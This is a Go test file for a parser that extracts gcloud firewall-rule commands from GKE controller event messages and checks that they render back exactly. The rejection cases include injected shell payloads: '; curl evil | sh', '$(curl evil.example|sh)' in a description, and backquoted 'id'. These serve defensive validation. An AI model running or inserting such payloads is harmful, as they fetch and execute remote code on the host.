package gke

import (
	"slices"
	"strings"
	"testing"
)

func TestParseFirewallChange(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, msg string
		want      FirewallChange
		ok        bool
	}{
		{name: "L7 create, as ingress-gce writes it", ok: true,
			msg: "Firewall change required by security admin: `gcloud compute firewall-rules create k8s-fw-l7--0123456789abcdef --network shared-vpc --description \"GCE L7 firewall rule\" --allow tcp:30000-32767,tcp:8080 --source-ranges 130.211.0.0/22,35.191.0.0/16 --target-tags gke-prod-1234abcd-node --project host-project`",
			want: FirewallChange{Verb: "create", Name: "k8s-fw-l7--0123456789abcdef", Network: "shared-vpc", Description: "GCE L7 firewall rule",
				Allow: []string{"tcp:30000-32767", "tcp:8080"}, SourceRanges: []string{"130.211.0.0/22", "35.191.0.0/16"}, TargetTags: []string{"gke-prod-1234abcd-node"}, Project: "host-project"}},
		{name: "update carries no network", ok: true,
			msg: "Firewall change required by security admin: `gcloud compute firewall-rules update k8s-fw-l7--0123456789abcdef --description \"GCE L7 firewall rule\" --allow tcp:30000-32767,tcp:9376 --source-ranges 10.129.0.0/23,130.211.0.0/22,35.191.0.0/16 --target-tags gke-prod-1234abcd-node --project host-project`",
			want: FirewallChange{Verb: "update", Name: "k8s-fw-l7--0123456789abcdef", Description: "GCE L7 firewall rule",
				Allow: []string{"tcp:30000-32767", "tcp:9376"}, SourceRanges: []string{"10.129.0.0/23", "130.211.0.0/22", "35.191.0.0/16"}, TargetTags: []string{"gke-prod-1234abcd-node"}, Project: "host-project"}},
		{name: "L4 description is quoted JSON", ok: true,
			msg: "Firewall change required by security admin: `gcloud compute firewall-rules create k8s2-abcd1234-shop-web-x1y2z3w4 --network shared-vpc --description \"{\\\"networking.gke.io/service-name\\\":\\\"shop/web\\\",\\\"networking.gke.io/api-version\\\":\\\"ga\\\"}\" --allow tcp:443 --source-ranges 0.0.0.0/0 --target-tags gke-prod-1234abcd-node --project host-project`",
			want: FirewallChange{Verb: "create", Name: "k8s2-abcd1234-shop-web-x1y2z3w4", Network: "shared-vpc", Description: `{"networking.gke.io/service-name":"shop/web","networking.gke.io/api-version":"ga"}`,
				Allow: []string{"tcp:443"}, SourceRanges: []string{"0.0.0.0/0"}, TargetTags: []string{"gke-prod-1234abcd-node"}, Project: "host-project"}},
		{name: "no target tags: gcloud refuses the empty list, and the rule would admit every VM",
			msg: "Firewall change required by security admin: `gcloud compute firewall-rules create k8s-fw-l7--0123456789abcdef --network vpc --description \"\" --allow tcp:8080 --source-ranges 35.191.0.0/16 --target-tags  --project host-project`"},
		{name: "delete", ok: true,
			msg:  "Firewall change required by security admin: `gcloud compute firewall-rules delete k8s2-abcd1234-shop-web-x1y2z3w4 --project host-project`",
			want: FirewallChange{Verb: "delete", Name: "k8s2-abcd1234-shop-web-x1y2z3w4", Project: "host-project"}},
		{name: "another event", msg: "Scheduled for sync"},
		{name: "a command smuggled in", msg: "Firewall change required by security admin: `gcloud compute firewall-rules create x --network v --allow tcp:80 --source-ranges 0.0.0.0/0 --target-tags gke-node --project p; curl evil | sh`"},
		{name: "an unknown flag", msg: "Firewall change required by security admin: `gcloud compute firewall-rules create fw --network vpc --allow tcp:80 --source-ranges 0.0.0.0/0 --target-tags gke-node --rules all --project host-project`"},
		{name: "not a range", msg: "Firewall change required by security admin: `gcloud compute firewall-rules create fw --network vpc --allow tcp:80 --source-ranges everywhere --target-tags gke-node --project host-project`"},
		{name: "another command", msg: "Firewall change required by security admin: `gcloud compute instances delete fw --project host-project`"},
		{name: "shell expansion in the description", msg: "Firewall change required by security admin: `gcloud compute firewall-rules create fw --network vpc --description \"$(curl evil.example|sh)\" --allow tcp:80 --source-ranges 35.191.0.0/16 --target-tags gke-node --project host-project`"},
		{name: "backquotes in the description", msg: "Firewall change required by security admin: `gcloud compute firewall-rules create fw --network vpc --description \"x`id`\" --allow tcp:80 --source-ranges 35.191.0.0/16 --target-tags gke-node --project host-project`"},
		{name: "unterminated quote", msg: "Firewall change required by security admin: `gcloud compute firewall-rules create fw --network vpc --description \"open --allow tcp:80 --source-ranges 0.0.0.0/0 --target-tags gke-node --project host-project`"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			got, ok := ParseFirewallChange(tc.msg)
			if ok != tc.ok {
				t.Fatalf("ok = %v, want %v (%+v)", ok, tc.ok, got)
			}
			if !ok {
				return
			}
			if got.Verb != tc.want.Verb || got.Name != tc.want.Name || got.Network != tc.want.Network || got.Description != tc.want.Description || got.Project != tc.want.Project ||
				!slices.Equal(got.Allow, tc.want.Allow) || !slices.Equal(got.SourceRanges, tc.want.SourceRanges) || !slices.Equal(got.TargetTags, tc.want.TargetTags) {
				t.Errorf("got %+v\nwant %+v", got, tc.want)
			}
			// Rendered back, it is the controller's command, byte for
			// byte (its lists come sorted as the controller sorts them).
			if want := strings.TrimSuffix(strings.TrimPrefix(tc.msg, xpnPrefix), "`"); got.Command() != want {
				t.Errorf("Command()\n%s\nwant\n%s", got.Command(), want)
			}
		})
	}
}

// TestSplitCommand: words split on spaces, a quoted word kept whole with
// its quotes (spaces and escaped quotes inside), an unterminated quote
// refused.
func TestSplitCommand(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		in   string
		want []string
		ok   bool
	}{
		{`a  b c `, []string{"a", "b", "c"}, true},
		{`--description "two words" --x`, []string{"--description", `"two words"`, "--x"}, true},
		{`--description "say \"hi\" now" y`, []string{"--description", `"say \"hi\" now"`, "y"}, true},
		{`--description "open --allow tcp:80`, nil, false},
		{`--description "ends in a backslash\"`, nil, false},
	} {
		got, ok := splitCommand(tc.in)
		if ok != tc.ok || !slices.Equal(got, tc.want) {
			t.Errorf("splitCommand(%q) = %q, %v; want %q, %v", tc.in, got, ok, tc.want, tc.ok)
		}
	}
}
